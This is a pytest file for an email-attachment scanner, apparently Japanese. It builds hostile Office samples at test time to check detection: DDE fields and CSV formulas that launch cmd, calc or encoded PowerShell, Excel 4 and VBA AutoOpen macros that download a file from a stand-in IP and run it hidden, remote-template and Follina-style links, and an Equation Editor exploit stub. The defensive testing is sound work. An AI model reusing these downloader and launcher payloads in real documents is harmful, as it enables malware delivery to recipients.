"""Office attachments judged as oletools would: one test per class, files built at test time.

DDE, Excel 4 macros, remote templates, embedded programs, RTF exploits and macro-enabled files
without macros are written here with zipfile, the compound-file writer in builders.py and plain
text; files with real VBA start from XlsxWriter's vbaProject.bin in the shared corpus.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import time
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mamori.core.corpus import corpus_dir
from mamori.mailcheck.engine import Limits, Report, analyse

from .builders import build_mail, ole_bytes, vba_project_with_source, zip_bytes

OFFICE = corpus_dir("office")
needs_corpus = pytest.mark.skipif(
    OFFICE is None, reason="shared corpus ../shared/corpus/office is absent"
)
CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _check(name: str, data: bytes, limits: Limits | None = None) -> Report:
    raw = build_mail(
        sender=("取引先", "tantou@partner-trading.co.jp"),
        subject="資料送付",
        text="資料を送付します。ご確認ください。",
        attachments=[(name, data, "application/octet-stream")],
    )
    # A generous time budget: the machine running the tests may be busy, and these tests are
    # about what is found, not how fast.
    return analyse(raw, limits=limits or Limits(time_budget_seconds=120))


def _evidence(report: Report, signal_id: str) -> str:
    return " | ".join(s.evidence for s in report.signals if s.id == signal_id)


def _docx(body: str, extra: dict[str, bytes] | None = None) -> bytes:
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>".encode()
    return zip_bytes({"[Content_Types].xml": CT, "word/document.xml": document, **(extra or {})})


def _field(instr: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


# --- DDE ---------------------------------------------------------------------------------


def test_dde_field_in_word_is_danger_with_the_command_line() -> None:
    report = _check(
        "見積書.docx", _docx(_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))
    )
    assert report.verdict == "danger"
    assert "cmd.exe" in _evidence(report, "attachment.dde")
    assert "コマンドを実行" in _evidence(report, "attachment.dde")


def test_dde_in_fldsimple_and_quote_obfuscation_are_found() -> None:
    codes = " ".join(str(ord(c)) for c in "DDE cmd /c calc")
    body = f'<w:p><w:fldSimple w:instr="QUOTE {codes}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    report = _check("報告.docx", _docx(body))
    assert "cmd /c calc" in _evidence(report, "attachment.dde")


def test_ordinary_word_fields_are_quiet() -> None:
    body = _field("PAGE \\* MERGEFORMAT") + _field('HYPERLINK "https://example.co.jp/"')
    report = _check("議事録.docx", _docx(body))
    assert not any(s.id.startswith("attachment.") for s in report.signals), report.signals
    assert report.verdict == "safe"


def test_excel_dde_link_is_danger() -> None:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c powershell -nop -w hidden"/></externalLink>'
    )
    book = zip_bytes(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.xml": b"<workbook/>",
            "xl/externalLinks/externalLink1.xml": link,
        }
    )
    report = _check("請求一覧.xlsx", book)
    assert report.verdict == "danger"
    assert "powershell" in _evidence(report, "attachment.dde")


def test_csv_formula_dde_is_danger() -> None:
    csv = "品名,数量\r\n=cmd|' /C powershell -enc SQBFAFgA'!A0,1\r\nりんご,3\r\n".encode("cp932")
    report = _check("注文.csv", csv)
    assert report.verdict == "danger"
    assert "powershell" in _evidence(report, "attachment.dde")


def test_plain_csv_with_formulas_is_quiet() -> None:
    report = _check("集計.csv", b"a,b,c\r\n1,2,=SUM(A2:B2)\r\n")
    assert not report.signals or report.verdict == "safe", report.signals


def test_rtf_dde_field_is_danger() -> None:
    rtf = (
        b"{\\rtf1\\ansi{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\"
        b'cmd.exe "/k calc.exe"}}{\\fldrslt {x}}}}'
    )
    report = _check("案内.rtf", rtf)
    assert report.verdict == "danger"
    assert "calc.exe" in _evidence(report, "attachment.dde")


# --- Excel 4 macros ----------------------------------------------------------------------


def test_sylk_macro_sheet_shows_its_formulas() -> None:
    slk = (
        b"ID;P\r\nO;E\r\nNN;NAuto_Open;ER1C1\r\n"
        b'C;X1;Y1;K0;EEXEC("cmd /c calc.exe")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n'
    )
    report = _check("請求書.slk", slk)
    evidence = _evidence(report, "attachment.xlm_macro")
    assert report.verdict == "danger"
    assert 'EXEC("cmd /c calc.exe")' in evidence and "開くと自動で実行" in evidence


def test_sylk_dde_cell_is_danger() -> None:
    slk = b"ID;P\r\nC;X1;Y1;K0;ECMD|' /C calc'!A0\r\nE\r\n"
    assert "calc" in _evidence(_check("data.slk", slk), "attachment.dde")


def test_xlsm_macro_sheet_formula_is_evidence() -> None:
    sheet = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
        b'"http://198.51.100.7/a.dll","c:\\Users\\Public\\a.dll",0,0)</f></c></row>'
        b"</sheetData></xm:macrosheet>"
    )
    workbook = (
        b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1'
        b"</definedName></definedNames></workbook>"
    )
    book = zip_bytes(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.xml": workbook,
            "xl/macrosheets/sheet1.xml": sheet,
        }
    )
    report = _check("請求書.xlsm", book)
    evidence = _evidence(report, "attachment.xlm_macro")
    assert "URLDownloadToFileA" in evidence and "開くと自動で実行" in evidence
    assert "http://" not in evidence  # addresses are defanged in evidence
    assert "attachment.macro_enabled_no_macro" not in {s.id for s in report.signals}


def _xlsb_formula_cell(command: str) -> bytes:
    """A BIFF12 BrtFmlaBool record whose formula is EXEC("<command>") (ptgStr, ptgFuncVar)."""
    text = command.encode("utf-16-le")
    rgce = b"\x17" + struct.pack("<H", len(command)) + text + b"\x22\x01" + struct.pack("<H", 0x6E)
    body = b"\0" * 8 + b"\0" + b"\0\0" + struct.pack("<I", len(rgce)) + rgce + b"\0" * 4
    assert len(body) < 128
    return bytes([10, len(body)]) + body


def test_xlsb_macro_sheet_formula_is_rebuilt() -> None:
    book = zip_bytes(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.bin": "Auto_Open".encode("utf-16-le"),
            "xl/macrosheets/sheet1.bin": _xlsb_formula_cell("cmd /c calc.exe"),
        }
    )
    evidence = _evidence(_check("売上.xlsb", book), "attachment.xlm_macro")
    assert 'EXEC("cmd /c calc.exe")' in evidence and "開くと自動で実行" in evidence


@needs_corpus
@pytest.mark.parametrize(
    "name",
    [
        "excel4_sample_macro.xls",
        "excel4_sample_macro.xlt",
        "excel4_sample_macro.xlsb",
        "excel4_sample_macro.xlsm",
        "excel4_sample_macro.xltm",
        "excel4_sample_macro.slk",
        "excel4_sample_macro_excel5_format.xls",
    ],
)
def test_excel4_corpus_files_in_every_container(name: str) -> None:
    path = OFFICE / "oletools_test-data" / "excel4-macros" / name  # type: ignore[operator]
    if not path.exists():
        pytest.skip(f"{name} not in this corpus")
    report = _check(name, path.read_bytes())
    assert "Excel 4.0" in _evidence(report, "attachment.xlm_macro")
    assert report.verdict == "danger"


# --- remote templates, external links, embedded objects ----------------------------------


def _rels(rel_type: str, target: str) -> bytes:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{REL_NS}/{rel_type}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    ).encode()


def test_remote_template_is_danger() -> None:
    doc = _docx(
        "<w:p/>",
        {"word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://203.0.113.9/t.dotm")},
    )
    report = _check("履歴書.docx", doc)
    assert report.verdict == "danger"
    assert "テンプレート" in _evidence(report, "attachment.remote_template")


def test_follina_ms_msdt_link_is_danger() -> None:
    target = "https://203.0.113.9/index.html!"
    doc = _docx("<w:p/>", {"word/_rels/document.xml.rels": _rels("oleObject", target)})
    report = _check("案内.docx", doc)
    assert report.verdict == "danger"
    assert "attachment.remote_template" in {s.id for s in report.signals}
    mhtml = _docx(
        "<w:p/>",
        {"word/_rels/document.xml.rels": _rels("oleObject", "mhtml:http://203.0.113.9/x!x-usc:y")},
    )
    assert _check("案内2.docx", mhtml).verdict == "danger"


def test_external_ole_link_and_hyperlinks() -> None:
    linked = _docx(
        "<w:p/>",
        {"word/_rels/document.xml.rels": _rels("oleObject", "https://example.com/a.doc")},
    )
    report = _check("参考.docx", linked)
    assert report.verdict == "caution"
    assert "example.com" in _evidence(report, "attachment.external_link")
    for link in ("https://example.com/", "https://example.com/sale!", "https://x.example/edits:1"):
        plain = _docx("<w:p/>", {"word/_rels/document.xml.rels": _rels("hyperlink", link)})
        assert _check("リンク集.docx", plain).verdict == "safe", link


def _package(filename: str, payload: bytes) -> bytes:
    """An OLE Package object (\\x01Ole10Native) carrying `filename`, as Word embeds files."""
    name = filename.encode("cp1252") + b"\x00"
    source = b"C:\\Users\\a\\" + name
    body = (
        struct.pack("<H", 2)
        + name
        + source
        + struct.pack("<II", 0, 3)
        + source
        + struct.pack("<I", len(payload))
        + payload
    )
    return ole_bytes({"\x01Ole10Native": struct.pack("<I", len(body)) + body})


@pytest.mark.parametrize(
    ("inner", "signal", "verdict"),
    [
        ("invoice.exe", "attachment.embedded_program", "danger"),
        ("start.js", "attachment.embedded_program", "danger"),
        ("memo.txt", "attachment.embedded_object", "safe"),
    ],
)
def test_embedded_package_is_judged_by_what_it_carries(
    inner: str, signal: str, verdict: str
) -> None:
    doc = _docx("<w:p/>", {"word/embeddings/oleObject1.bin": _package(inner, b"MZ" + b"\0" * 64)})
    report = _check("資料.docx", doc)
    assert inner in _evidence(report, signal)
    assert report.verdict == verdict


def test_rtf_equation_editor_object_is_an_exploit() -> None:
    rtf = (
        b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260"
        b"{\\*\\objdata 0105000002000000080000004571756174696f6e2e33000000000000000000000e0000"
        b"d0cf11e0a1b11ae1000000000000000000000000}}}"
    )
    report = _check("注文書.rtf", rtf)
    assert report.verdict == "danger"
    assert "CVE-2017-11882" in _evidence(report, "attachment.exploit_object")


def test_plain_rtf_is_quiet() -> None:
    report = _check("案内.rtf", b"{\\rtf1\\ansi{\\fonttbl\\f0 MS Gothic;}\\f0 Hello \\par}")
    assert report.verdict == "safe", report.signals


# --- macros: containers, what they do, default password ----------------------------------

WRITE_AND_RUN = (
    'Attribute VB_Name = "Module1"\n'
    "Sub AutoOpen()\n"
    "    Dim path As String\n"
    '    path = Environ("TEMP") & "\\upd.exe"\n'
    '    Set http = CreateObject("MSXML2.XMLHTTP")\n'
    '    http.Open "GET", "http://198.51.100.7/p.bin", False\n'
    "    http.Send\n"
    "    Open path For Binary As #1\n"
    "    Put #1, , http.responseBody\n"
    "    Close #1\n"
    "    Shell path, vbHide\n"
    "End Sub\n"
)


def _project(source: str) -> bytes:
    template = (OFFICE / "xlsxwriter_vba" / "vbaProject.bin").read_bytes()  # type: ignore[operator]
    return vba_project_with_source(template, "Module1", source)


def _xlsm(source: str) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.xml": b"<workbook/>",
            "xl/vbaProject.bin": _project(source),
        }
    )


@needs_corpus
def test_macro_evidence_says_what_it_does() -> None:
    report = _check("請求書.xlsm", _xlsm(WRITE_AND_RUN))
    evidence = _evidence(report, "attachment.macro")
    assert "文書を開くと自動で実行され、ファイルを書き込んで実行します" in evidence
    assert "インターネットからファイルを取得" in evidence
    assert "AutoOpen" in evidence and "Shell" in evidence
    assert "hxxp://198.51.100.7" in evidence and "http://198" not in evidence
    assert "疑わしい" in _evidence(report, "attachment.macro_autoexec")
    assert report.verdict == "danger"


@needs_corpus
def test_vba_stomping_is_reported() -> None:
    # The template's compiled p-code says MsgBox "Hello from Python!"; the source now says
    # something else: what olevba calls VBA stomping.
    stomped = _check("集計.xlsm", _xlsm(WRITE_AND_RUN))
    assert "p-code" in _evidence(stomped, "attachment.vba_stomping")
    original = (OFFICE / "xlsxwriter_vba" / "macro01.xlsm").read_bytes()  # type: ignore[operator]
    assert "attachment.vba_stomping" not in {s.id for s in _check("集計.xlsm", original).signals}


@needs_corpus
def test_vba_in_a_flat_opc_xml_document_is_found() -> None:
    project = base64.b64encode(_project(WRITE_AND_RUN)).decode()
    flat = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        '<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject">'
        f"<pkg:binaryData>{project}</pkg:binaryData></pkg:part></pkg:package>"
    ).encode()
    report = _check("議事録.xml", flat)
    assert "ファイルを書き込んで実行します" in _evidence(report, "attachment.macro")


def _active_mime(project: bytes) -> bytes:
    """Word's ActiveMime (.mso) wrapper: a header, then the zlib-compressed VBA project."""
    header = bytearray(b"ActiveMime" + b"\0" * 40)
    struct.pack_into("<H", header, 0x1E, 4)  # data at 4 + 46 = 0x32
    return bytes(header) + zlib.compress(project)


@needs_corpus
def test_vba_in_word_2003_xml_and_single_file_web_page() -> None:
    mso = base64.b64encode(_active_mime(_project(WRITE_AND_RUN))).decode()
    word2003 = (
        '<?xml version="1.0"?><w:wordDocument '
        'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f'<w:docSuppData><w:binData w:name="editdata.mso">{mso}</w:binData></w:docSuppData>'
        "</w:wordDocument>"
    ).encode()
    report = _check("報告書.xml", word2003)
    assert "ファイルを書き込んで実行します" in _evidence(report, "attachment.macro")
    mht = (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html\r\n\r\n<html><body>x</body></html>\r\n"
        "--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
        f"{mso}\r\n--b--\r\n"
    ).encode()
    report = _check("報告書.doc", mht)
    assert "ファイルを書き込んで実行します" in _evidence(report, "attachment.macro")


@needs_corpus
def test_package_without_content_types_is_still_read() -> None:
    book = zip_bytes(
        {"xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": _project(WRITE_AND_RUN)}
    )
    report = _check("請求書.xlsm", book)
    assert "ファイルを書き込んで実行します" in _evidence(report, "attachment.macro")


def _encrypted(plain: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt(password, encrypted)
    return encrypted.getvalue()


@needs_corpus
def test_default_password_file_is_decrypted_and_its_macro_found() -> None:
    report = _check("請求書.xlsm", _encrypted(_xlsm(WRITE_AND_RUN), "VelvetSweatshop"))
    ids = {s.id for s in report.signals}
    assert {"attachment.office_default_password", "attachment.macro"} <= ids
    assert "attachment.encrypted_office" not in ids
    assert "ファイルを書き込んで実行します" in _evidence(report, "attachment.macro")
    assert report.verdict == "danger"


@needs_corpus
def test_other_passwords_stay_unreadable() -> None:
    report = _check("請求書.xlsm", _encrypted(_xlsm(WRITE_AND_RUN), "s3cret-pass"))
    ids = {s.id for s in report.signals}
    assert "attachment.encrypted_office" in ids
    assert not ids & {"attachment.macro", "attachment.office_default_password"}
    assert report.facts["encrypted_office"]


@needs_corpus
@pytest.mark.parametrize("name", ["xls", "xlsb", "xlsm"])
def test_corpus_default_password_files(name: str) -> None:
    folder = OFFICE / "oletools_test-data" / "encrypted"  # type: ignore[operator]
    path = folder / f"autostart-encrypt-standardpassword.{name}"
    if not path.exists():
        pytest.skip(f"{path.name} not in this corpus")
    report = _check(path.name, path.read_bytes())
    assert {"attachment.office_default_password", "attachment.macro"} <= {
        s.id for s in report.signals
    }
    dde = _check(f"dde.{name}", (folder / f"dde-test-encrypt-standardpassword.{name}").read_bytes())
    assert "calc.exe" in _evidence(dde, "attachment.dde")


# --- macro-enabled formats without macros ------------------------------------------------


@pytest.mark.parametrize("ext", ["docm", "xlsm", "pptm", "dotm", "xltm", "xlam", "potm", "ppsm"])
def test_macro_enabled_format_without_macro_is_at_most_caution(ext: str) -> None:
    report = _check(f"資料.{ext}", _docx(_field("PAGE")))
    evidence = _evidence(report, "attachment.macro_enabled_no_macro")
    assert "マクロ有効形式" in evidence and "マクロは含まれていません" in evidence
    assert report.verdict == "caution"
    assert "attachment.macro" not in {s.id for s in report.signals}


@needs_corpus
def test_corpus_macro_enabled_files_without_macros_are_never_danger() -> None:
    from mamori.mailcheck.engine.office import MACRO_EXT

    files = [
        p
        for p in (OFFICE / "oletools_test-data").rglob("*")  # type: ignore[operator]
        if p.suffix.lstrip(".") in MACRO_EXT
        and ("harmless" in p.name or "embedded-simple" in p.name or "external_link" in p.name)
    ]
    assert files
    for path in files:
        assert _check(path.name, path.read_bytes()).verdict != "danger", path.name


def test_unreadable_vba_part_is_a_caution_not_a_danger() -> None:
    doc = zip_bytes(
        {
            "[Content_Types].xml": CT,
            "word/document.xml": f"<w:document {W}/>".encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 damaged",
        }
    )
    report = _check("契約書.docm", doc)
    assert "壊れていて" in _evidence(report, "attachment.macro")
    assert report.verdict == "caution"


# --- caps --------------------------------------------------------------------------------


def test_office_file_over_the_cap_is_a_signal_not_a_crash() -> None:
    limits = Limits(max_office_scan_bytes=10_000, time_budget_seconds=120)
    picture = random.Random(7).randbytes(20_000)  # does not compress below the cap
    big = _docx(_field("PAGE"), {"word/media/image1.png": picture})
    report = _check("大きな資料.docm", big, limits)
    assert "attachment.limit" in {s.id for s in report.signals}
    rtf = b"{\\rtf1 " + b"x" * 20_000 + b"}"
    assert "attachment.limit" in {s.id for s in _check("big.rtf", rtf, limits).signals}


@pytest.mark.parametrize(
    "data",
    [
        b"{\\rtf1{\\field{\\*\\fldinst",
        b"ID;P\r\nO;E\r\nC;X1;Y1;E",
        b"PK\x03\x04broken",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        b"<?xml version='1.0'?><w:document><w:instrText>DDE",
    ],
)
def test_truncated_documents_never_crash(data: bytes) -> None:
    for name in ("a.rtf", "a.slk", "a.docm", "a.xls", "a.xml", "a.csv"):
        report = _check(name, data)
        assert report.verdict in {"safe", "caution", "danger"}
        assert "message.unparseable" not in {s.id for s in report.signals}


# --- fuzzing -----------------------------------------------------------------------------


def _seeds() -> list[tuple[str, bytes]]:
    return [
        ("a.docx", _docx(_field("DDEAUTO cmd /c calc"))),
        ("a.docx", _docx("<w:p/>", {"word/embeddings/oleObject1.bin": _package("a.exe", b"MZ")})),
        (
            "a.rtf",
            b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}{\\object{\\*\\objclass Equation.3}}}",
        ),
        ("a.slk", b'ID;P\r\nO;E\r\nNN;NAuto_Open\r\nC;X1;Y1;EEXEC("x")\r\nE\r\n'),
        ("a.csv", b"=cmd|' /C calc'!A0\r\n"),
        (
            "a.xlsb",
            zip_bytes({"[Content_Types].xml": CT, "xl/macrosheets/s.bin": _xlsb_formula_cell("x")}),
        ),
        ("a.doc", ole_bytes({"WordDocument": b"\x13 DDEAUTO cmd \x14x\x15" + b"\0" * 600})),
        (
            "a.xml",
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
            b"<Cell Formula=\"=cmd|'/c calc'!A1\"/></Workbook>",
        ),
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(range(8)),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=8),
    st.integers(0, 10_000),
)
def test_mutated_office_documents_never_raise(
    seed: int, flips: list[tuple[int, int]], cut: int
) -> None:
    from mamori.mailcheck.engine.attachments import AttachmentFacts, analyse_attachment
    from mamori.mailcheck.engine.signals import Collector

    name, data = _seeds()[seed]
    mutated = bytearray(data)
    for position, value in flips:
        if mutated:
            mutated[position % len(mutated)] = value
    out = Collector(deadline=time.monotonic() + 60)
    analyse_attachment(name, bytes(mutated[: max(cut, 1)]), False, Limits(), out, AttachmentFacts())
    assert all(s.severity in {"info", "low", "medium", "high"} for s in out.signals)
